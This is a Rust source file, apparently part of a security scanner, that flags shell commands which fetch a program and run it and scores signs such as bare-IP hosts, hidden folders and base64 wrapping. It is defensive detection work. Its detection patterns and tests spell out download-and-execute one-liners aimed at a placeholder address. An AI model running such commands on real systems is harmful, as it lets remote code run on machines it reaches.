//! Commands that fetch a program and run it, and what makes that more than an installer.

use std::sync::LazyLock;

use base64::Engine as _;
use model::{Indicator, IndicatorKind};
use regex::Regex;

use super::Host;

static FETCHER: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)(?:^|[^\w./-])(?:/usr/bin/|/bin/)?(?:curl|wget|wget2|aria2c|lwp-download|lynx|axel|tftp|ftpget|fetch|busybox wget|cdt|wdt|cd1|wd1)(?:\s|[\x22'])",
    )
});
static LOADER: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?i)exec\(\s*(?:\w+\.)*(?:urlopen|get|b64decode|decompress)\([^\n]{0,200}?https?://"));
static URL: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)(?:(?:https?|ftp|tftp)://(\[[0-9a-f:]+\]|[^\s/"'`|;)<>:$@{}\\(,]+)|(?:^|[\s"'])(\d{1,3}(?:\.\d{1,3}){3}))(?::(\d{1,5}))?(?:/[^\s"'`|;)<>\\]*)?"#,
    )
});
static PIPED: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"\|\s*(?:(?:sudo|nohup|setsid|exec|env)\s+(?:-\S+\s+)*)*(?:/\S*/)?(?:(?:ba|da|z|k|a)?sh|python[0-9.]*|perl)(?:[\s;&|)\x22'<>`]|$)",
    )
});
static SUBSTITUTED: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?:(?:\bsh|bash|python[0-9.]*)\s+-c\s+|\beval\s+)["']?(?:\$\(|`)\s*(?:\w+ )?(?:curl|wget|lynx)|(?:\bsh|bash|source|\.)\s+(?:-\S+\s+)*<\(\s*(?:curl|wget|lynx)"#,
    )
});
static OUTPUT: LazyLock<Regex> = LazyLock::new(|| {
    regex(r#"(?:\s-[a-zA-Z]*[oO]\s*|\s--output(?:-document)?[= ]\s*|\s>\s*)["']?([^\s"';|&)-][^\s"';|&)]*)"#)
});
static CHMOD: LazyLock<Regex> =
    LazyLock::new(|| regex(r"\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rwst]*x|[0-7]*[1357][0-7]*)\s"));
static TLS_OFF: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?:^|\s)(?:--insecure|--no-check-certificate|-k|curl\s+-[a-zA-Z]*k[a-zA-Z]*)(?:\s|$)|\bcurl\b[^\n|;]*\s-[a-zA-Z]*k[a-zA-Z]*\s",
    )
});
static BACKGROUND: LazyLock<Regex> =
    LazyLock::new(|| regex(r"\b(?:nohup|setsid|disown)\b|[^&>|]\s*&\s*(?:$|\n|disown|exit|\))"));
static HIDDEN: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?:/dev/shm/|/run/shm/|/(?:var/)?tmp/(?:[^\s/;|&]+/)*\.[\w-])"));
static TEMPORARY: LazyLock<Regex> = LazyLock::new(|| regex(r"(?:^|[\s\x22'=>])/(?:var/)?tmp(?:/|\b)"));
static DEFENCES: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"\bhistory\s+-c\b|\bHISTFILE\b|\bHISTSIZE=0|\bsetenforce\s+0|\biptables\s+-F\b|\bufw\s+disable|\bchattr\s+-[ia]|\b(?:pkill|killall)\s+(?:-\S+\s+)*(?:xmrig|kinsing|kdevtmpfsi|minerd|aliyun|aegis|YDService)|>\s*/var/log/(?:wtmp|lastlog|btmp|secure|auth\.log)",
    )
});
static DECODED: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"([A-Za-z0-9+/]{24,}={0,2})["']?\s*\|\s*(?:/\S*/)?(?:base64|openssl\s+(?:enc\s+)?-?base64)\s+(?:-d|-D|--decode)\b[^|\n]{0,40}\|\s*(?:sudo\s+)?(?:/\S*/)?(?:(?:ba|da|z|k|a)?sh|python[0-9.]*|perl)\b"#,
    )
});

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the pattern is a constant, and a test runs it")
}

/// Something fetched, or decoded, and run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Run {
    /// Where from, as written, or what was decoded.
    pub(crate) source: String,
    /// What kind of host that is; none for decoded text.
    pub(crate) host: Option<Host>,
    /// Things that honest installers do not do.
    pub(crate) strong: Vec<&'static str>,
    /// Things that they do sometimes.
    pub(crate) weak: Vec<&'static str>,
}

impl Run {
    /// All that aggravates it, in words.
    pub(crate) fn reasons(&self) -> String {
        let all: Vec<_> = self.strong.iter().chain(&self.weak).copied().collect();
        all.join(", ")
    }

    /// The URL it comes from, if it is somewhere outside.
    pub(crate) fn indicator(&self) -> Option<Indicator> {
        self.host
            .is_some_and(Host::is_outside)
            .then(|| Indicator { kind: IndicatorKind::Url, value: self.source.clone() })
    }
}

/// What the commands in `text` fetch and run, beginning with the first line. `text` is a few lines at most: the line
/// with the fetching command and what follows.
pub(crate) fn runs(text: &str) -> Option<Run> {
    runs_after("", text)
}

/// The same, knowing what stands `before` the first line: a folder may have been entered there.
pub(crate) fn runs_after(before: &str, text: &str) -> Option<Run> {
    let text = text.replace("\\\n", " ").replace("\\\r\n", " ");
    if let Some(run) = decoded(&text) {
        return Some(run);
    }
    let first = text.lines().next().unwrap_or_default();
    let loader = LOADER.find(first);
    let fetcher = FETCHER.find(first).or(loader)?;
    let from = fetcher.start();
    let rest = text.get(from..)?;
    let url = URL.captures(rest)?;
    let whole = url.get(0)?;
    let command_end = rest.find('\n').unwrap_or(rest.len());
    if whole.start() > command_end {
        return None;
    }
    let written = url.get(1).or(url.get(2))?.as_str();
    let host = Host::of(written);
    let source = whole.as_str().trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'').to_owned();
    let line = rest.get(..command_end)?;
    let behind_url = line.get(whole.end().min(line.len())..).unwrap_or_default();

    let straight = loader.is_some() || PIPED.is_match(behind_url) || SUBSTITUTED.is_match(first);
    let stored = if straight { None } else { stored_and_run(rest, &source) };
    if !straight && stored.is_none() {
        return None;
    }
    let (place, scope) = match &stored {
        // `a && b` is no background: the piece ends with the first of two.
        Some((place, end)) => {
            let end =
                if rest.get(*end..).is_some_and(|next| next.starts_with('&')) { end.saturating_sub(1) } else { *end };
            (place.as_str(), rest.get(..end).unwrap_or(rest))
        }
        None => ("", line),
    };
    let mut strong = Vec::new();
    let mut weak = Vec::new();
    match host {
        Host::Address => strong.push("from a bare address"),
        Host::Onion => strong.push("from a Tor hidden service"),
        Host::Throwaway => strong.push("from a paste, shortener, tunnel or dynamic host"),
        _ => {}
    }
    let entered = |text: &str| ["cd /tmp", "cd /var/tmp", "cd /dev/shm"].iter().any(|entry| text.contains(entry));
    let in_temp_folder = entered(before) || text.get(..from).is_some_and(entered);
    if HIDDEN.is_match(place) || place.starts_with("./.") || (place.starts_with('.') && !place.starts_with("./")) {
        strong.push("into a hidden place");
    } else if TEMPORARY.is_match(place) || (!place.is_empty() && in_temp_folder) {
        weak.push("into a temporary folder");
    }
    if DEFENCES.is_match(&text) {
        strong.push("with traces or defences removed");
    }
    let own_end = ["|", ";", "&&"].iter().filter_map(|end| behind_url.find(end)).min().unwrap_or(behind_url.len());
    let own = line.get(..line.len() - behind_url.len() + own_end).unwrap_or(line);
    if TLS_OFF.is_match(own) {
        weak.push("without checking certificates");
    }
    if BACKGROUND.is_match(scope) {
        weak.push("in the background");
    }
    Some(Run { source, host: Some(host), strong, weak })
}

/// The file that the fetched bytes go to, if it is made executable or given to a shell afterwards and run; and where
/// the running command ends.
fn stored_and_run(rest: &str, source: &str) -> Option<(String, usize)> {
    let command_end = rest.find(['\n', ';', '|']).unwrap_or(rest.len());
    let command_end = rest.find("&&").map_or(command_end, |and| command_end.min(and));
    let command = rest.get(..command_end)?;
    let named = OUTPUT.captures(command).and_then(|found| found.get(1)).map(|found| found.as_str().to_owned());
    let place = match named {
        Some(name) if name != "/dev/null" && !name.starts_with("http") => name,
        _ => source.rsplit('/').next().filter(|name| !name.is_empty())?.to_owned(),
    };
    let behind = rest.get(command_end..)?;
    let executable = CHMOD.find(behind);
    let base = place.rsplit('/').next().unwrap_or(&place);
    let mut at = command_end;
    for piece in behind.split_inclusive(['\n', ';', '|', '&']) {
        at += piece.len();
        let mut words =
            piece.trim_matches(|c: char| c.is_whitespace() || "();|&{}".contains(c)).split_ascii_whitespace();
        let mut word = words.next().unwrap_or_default();
        while matches!(word, "nohup" | "setsid" | "exec" | "sudo" | "then" | "do" | "if" | "(" | "{" | "env") {
            word = words.next().unwrap_or_default();
        }
        let by_shell = matches!(
            word.rsplit('/').next(),
            Some("sh" | "bash" | "dash" | "python" | "python3" | "perl" | "." | "source")
        );
        let target = if by_shell { words.find(|word| !word.starts_with('-')).unwrap_or_default() } else { word };
        let target = target.trim_matches(['"', '\'']);
        let same = target == place || (target.rsplit('/').next() == Some(base) && target.contains('/'));
        if same && (by_shell || executable.is_some()) {
            return Some((place, at.min(rest.len())));
        }
    }
    None
}

fn decoded(text: &str) -> Option<Run> {
    let found = DECODED.captures(text)?;
    let bytes = base64::engine::general_purpose::STANDARD.decode(found.get(1)?.as_str()).ok()?;
    let inner = String::from_utf8(bytes).ok()?;
    let mut strong = vec!["decoded from base64"];
    if FETCHER.is_match(&inner) || inner.contains("/dev/tcp/") {
        strong.push("to a command that reaches out");
    }
    Some(Run { source: model::text::shortened(inner.trim(), 80).into_owned(), host: None, strong, weak: Vec::new() })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_installer_has_nothing_that_aggravates_it() {
        let run =
            runs("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh").expect("it runs what it fetches");
        assert_eq!((run.host, run.reasons().as_str()), (Some(Host::Named), ""));
    }

    #[test]
    fn fetching_alone_is_not_running() {
        assert_eq!(runs("wget http://198.51.100.7/data.bin -O /tmp/data.bin"), None);
        assert_eq!(runs("curl -s http://198.51.100.7/list | shuf | head"), None);
        assert_eq!(runs("wget http://198.51.100.7/a.tgz\ntar xf a.tgz\n./configure\nchmod +x b"), None);
    }

    #[test]
    fn every_way_of_running_is_seen() {
        for text in [
            "curl -s http://198.51.100.7/x | bash",
            "wget -qO- 198.51.100.7/x.sh|sh",
            "bash -c \"$(curl -fsSL http://198.51.100.7/x)\"",
            "bash <(curl -s http://198.51.100.7/x)",
            "wget -q http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
            "curl -o /tmp/x http://198.51.100.7/x && \\\n chmod 777 /tmp/x && \\\n nohup /tmp/x &",
            "wget http://198.51.100.7/bins.sh; chmod 777 *; sh bins.sh",
            "python3 -c \"import urllib.request as r; exec(r.urlopen('http://198.51.100.7/x').read())\"",
        ] {
            let run = runs(text).unwrap_or_else(|| panic!("{text}"));
            assert!(run.strong.contains(&"from a bare address"), "{text}: {run:?}");
        }
    }

    #[test]
    fn base64_is_read() {
        // curl -s http://198.51.100.7/x | sh
        let run = runs("echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d | bash").expect("decoded");
        assert_eq!(run.strong, ["decoded from base64", "to a command that reaches out"]);
    }
}
